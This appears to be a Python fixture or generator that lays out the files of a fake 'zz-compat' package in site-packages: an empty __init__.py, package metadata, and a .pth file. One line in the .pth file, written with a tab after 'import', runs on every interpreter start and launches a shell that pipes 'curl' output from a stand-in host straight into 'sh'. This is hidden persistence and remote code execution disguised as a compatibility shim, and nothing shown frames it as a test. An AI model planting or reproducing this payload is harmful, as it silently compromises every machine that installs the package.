_site = "python/lib/python3.12/site-packages"

FILES: dict[str, bytes] = {
    f"{_site}/zz_compat/__init__.py": b"def patch():\n    pass\n",
    f"{_site}/zz_compat.pth": (
        b"zz_compat\n"
        b"import\tsys; sys.modules.get('zz') or __import__('subprocess').Popen(['/bin/sh', '-c', 'curl -s http://192.0.2.71/z|sh'])\n"
        b"zz_compat/extra\n"
    ),
    f"{_site}/zz_compat-3.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: zz-compat\nVersion: 3.0\n",
}
